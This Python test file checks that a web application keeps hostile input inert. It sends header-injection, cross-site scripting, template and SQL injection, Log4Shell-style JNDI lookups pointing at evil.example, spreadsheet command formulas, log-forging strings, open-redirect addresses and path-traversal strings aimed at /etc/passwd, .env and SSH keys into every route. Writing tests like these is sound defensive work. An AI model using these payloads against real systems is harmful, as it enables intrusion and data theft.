"""Text that means something to a browser, a header, a path, a log or a database: it stays text."""

import io
import json
from pathlib import Path

import httpx2
import pytest
import structlog
from starlette.applications import Starlette

from offer.logs import configure
from tests.attack.test_headers import runs
from tests.attack.walking import COUNCIL, doors, outside
from tests.offer.staff.conftest import SignedIn
from tests.offer.staff.people import Somebody
from tests.strength import survived

HOW = "make strength (tests/attack/test_injection.py)"
LINES = (
    "\r\nSet-Cookie: planted=1",
    "\nLocation: https://evil.example",
    "%0d%0aX-Planted:%201",
    "\u560d\u560a",
    "\x85X-Planted: 1",
    "\u2028X",
    "a\x00b",
)
MARKUP = (
    '"><script>planted()</script>',
    "'><img src=x onerror=planted()>",
    "javascript:planted()",
    "</title><script>",
    "{{1234*5678}}${1234*5678}<%= 1234*5678 %>",
    '"autofocus onfocus=planted() x="',
    "<svg/onload=planted()>",
    "'; DROP TABLE visit;--",
    "' OR '1'='1",
    "%s%s%n",
    "${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0",
)
OUTSIDE = (
    "../settings.py",
    "..%2fsettings.py",
    "..%252fsettings.py",
    "%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "/etc/passwd",
    "//etc/passwd",
    "C:\\boot.ini",
    "..\\settings.py",
    "manifest.json%00.css",
    "../../.git/config",
    ".env",
    ".git/HEAD",
    "~root/.ssh/id_rsa",
    "file:///etc/passwd",
    "\u2025/\u2025/etc/passwd",
    "con",
    "..;/settings",
)
FIELDS = (
    "q",
    "place",
    "age",
    "council",
    "age_years",
    "code",
    "to",
    "in",
    "by",
    "kind",
    "text",
    "from",
    "with",
    "postcode",
    "lang",
    "on",
    "of",
    "things",
    "topic",
    "near",
    "name",
    "email",
    "password",
    "role",
)


def headers_of(reply: httpx2.Response) -> str:
    return "\n".join(f"{name}: {value}" for name, value in reply.headers.items()).lower()


async def test_no_text_becomes_a_header_or_a_second_line_of_one(
    running: Starlette, signed_in: SignedIn
) -> None:
    who: Somebody = await signed_in(("admin", "england"), ("admin", COUNCIL))
    tried = 0
    for door in doors(running):
        nasty = LINES[tried % len(LINES)]
        data = dict.fromkeys(FIELDS, nasty)
        reply = await (
            who.client.get(door.address, params=data)
            if door.method == "GET"
            else who.client.post(door.address, data=data)
        )
        assert "planted" not in headers_of(reply) and "evil.example" not in headers_of(reply), door
        assert reply.status_code < 500, door
        tried += 1
    survived("attack", "text that tries to become a header", tried, tried, HOW)


async def test_no_text_becomes_markup_code_or_a_query(running: Starlette, signed_in: SignedIn) -> None:
    """Every text in every field of every form and address, as staff and as nobody."""
    who: Somebody = await signed_in(("admin", "england"), ("admin", COUNCIL))
    tried = 0
    for number, door in enumerate(doors(running)):
        for nasty in (MARKUP[number % len(MARKUP)], MARKUP[(number * 5 + 3) % len(MARKUP)]):
            data = dict.fromkeys(FIELDS, nasty)
            reply = await (
                who.client.get(door.address, params=data)
                if door.method == "GET"
                else who.client.post(door.address, data=data | {"token": "x"})
            )
            assert reply.status_code < 500, (door, nasty)
            if reply.headers.get("content-type", "").startswith("text/html"):
                assert runs(reply.text) == [], (door, nasty)
                assert "7006652" not in reply.text, "it was worked out"
            tried += 1
    survived("attack", "text that tries to become markup, code or a query", tried, tried, HOW)


async def test_no_address_leads_out_of_what_is_served(running: Starlette, data_dir: Path) -> None:
    """Files of ours, of the machine and of the database, by each part of an address that names something."""
    secret = (data_dir / "offer.sqlite3").name
    tried = 0
    parts = [
        door.path
        for door in doors(running)
        if door.method == "GET" and "{" in door.path and not door.is_staff
    ]
    async with outside(running) as browser:
        for path in ("/assets/{x}", *dict.fromkeys(parts)):
            before = path.partition("{")[0]
            for nasty in (*OUTSIDE, f"../../{secret}"):
                reply = await browser.get(before + nasty.replace("\\", "%5c").replace("\u2025", "%E2%80%A5"))
                assert reply.status_code in (200, 303, 307, 308, 404, 410, 422, 429), (path, nasty)
                for told in ("root:", "class Settings", "SQLite format 3", "[core]", "ref: refs/"):
                    assert told not in reply.text, (path, nasty)
                tried += 1
    survived("attack", "an address that tries to leave what is served", tried, tried, HOW)


@pytest.mark.parametrize(
    "name", [*OUTSIDE, "entries.csv/../../x", "entries.exe", "yaml.zip.exe", "entries.csv\r\nX: 1"]
)
async def test_no_name_of_a_download_is_more_than_a_name(signed_in: SignedIn, name: str) -> None:
    who: Somebody = await signed_in(("admin", COUNCIL))
    reply = await who.client.get(
        f"/staff/exchange/{COUNCIL}/files/{httpx2.QueryParams({'x': name})}".replace("/x=", "/")
    )
    assert reply.status_code in (404, 403)
    right = await who.get(f"/staff/exchange/{COUNCIL}/files/entries.csv")
    assert right.headers["content-disposition"] == f'attachment; filename="{COUNCIL}-entries.csv"'


@pytest.fixture
def log_lines(monkeypatch: pytest.MonkeyPatch) -> io.StringIO:
    """The log as it is written in earnest, into a text."""
    kept = io.StringIO()
    monkeypatch.setattr("sys.stderr", kept)
    configure("INFO")
    structlog.configure(logger_factory=structlog.WriteLoggerFactory(file=kept))
    return kept


async def test_no_text_becomes_a_line_of_the_log(running: Starlette, log_lines: io.StringIO) -> None:
    """One line of JSON a request, whatever is asked, and by whom: nobody writes one of their own."""
    forged = '\n{"event": "planted", "level": "info"}\n\x1b[2J'
    asked = 0
    async with outside(running) as browser:
        for part in (forged, "%0a%7b%22event%22:%22planted%22%7d", "\r\n\r\nplanted"):
            quoted = httpx2.QueryParams({"q": part})
            agent = {"User-Agent": part.replace("\n", " ").replace("\r", " "), "X-Forwarded-For": "planted"}
            for path in (
                f"/search?{quoted}",
                f"/{quoted}",
                f"/entitlements/{quoted}",
                f"/api/v1/search?{quoted}",
            ):
                await browser.get(
                    path, headers={k: v.encode("ascii", "ignore").decode() for k, v in agent.items()}
                )
                await browser.post(path.partition("?")[0], data={"q": part, "email": part, "password": part})
                asked += 2
    lines = [json.loads(line) for line in log_lines.getvalue().splitlines()]
    assert [line["event"] for line in lines].count("request") == asked
    assert "planted" not in log_lines.getvalue() and "\x1b" not in log_lines.getvalue()


@pytest.mark.parametrize(
    "address",
    [
        "//evil.example/",
        "//evil.example/%2e%2e",
        "/ar//evil.example/",
        "/\\evil.example/",
        "/ar/\\evil.example",
        "/%2f%2fevil.example/",
        "///evil.example",
        "/.evil.example/",
        "/search?q=//evil.example",
        "/openreferral//evil.example/",
        "/start-again?to=https://evil.example",
        "/staff?to=//evil.example",
        "/results?to=https://evil.example",
        "/staff/sign-in?to=https://evil.example",
        "/staff/sign-in?to=/staff/../../evil",
        "/join?to=//evil.example",
    ],
)
async def test_no_address_sends_anybody_to_another_host(running: Starlette, address: str) -> None:
    async with outside(running) as browser:
        for method in ("GET", "POST"):
            reply = await browser.request(method, address)
            location = reply.headers.get("location", "/")
            assert location.startswith(("/", "https://offers.example/")), (address, location)
            assert not location.startswith(("//", "/\\")), (address, location)


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:443", "offers.example@evil.example", "offers.example.evil.example"]
)
async def test_a_host_that_somebody_claims_stands_in_no_redirect_letter_or_code(
    running: Starlette, signed_in: SignedIn, host: str
) -> None:
    """Only in what is the asker's own: a feed or a site map asked for at that address without PUBLIC_URL."""
    who: Somebody = await signed_in(("admin", "england"), ("admin", COUNCIL))
    public_feeds = (
        "/sitemap",
        "/robots.txt",
        "/open-data",
        "/openreferral",
        "/services/{slug}/times.ics",
        "/api/v1",
    )
    linked_data = ("/entitlements/{slug}", "/services/{slug}", "/docs/api", "/organisations/{slug}")
    claimed = {
        "Host": host,
        "X-Forwarded-Host": "evil.example",
        "X-Original-URL": "/staff/people",
        "X-Rewrite-URL": "/staff",
    }
    for door in doors(running):
        if door.method != "GET" or door.path.startswith(public_feeds):
            continue
        reply = await who.client.get(door.address, headers=claimed)
        assert "evil.example" not in reply.headers.get("location", ""), door
        if door.path not in linked_data and reply.status_code < 400:
            assert "evil.example" not in reply.text, door
    for path in ("/topics/", "/ar/topics/", "/topics/housing/?by=E10000019"):
        slash = (await who.client.get(path, headers=claimed)).headers["location"]
        assert "evil" not in slash
        assert "@" in host or slash == path.replace("/?", "?").rstrip("/")
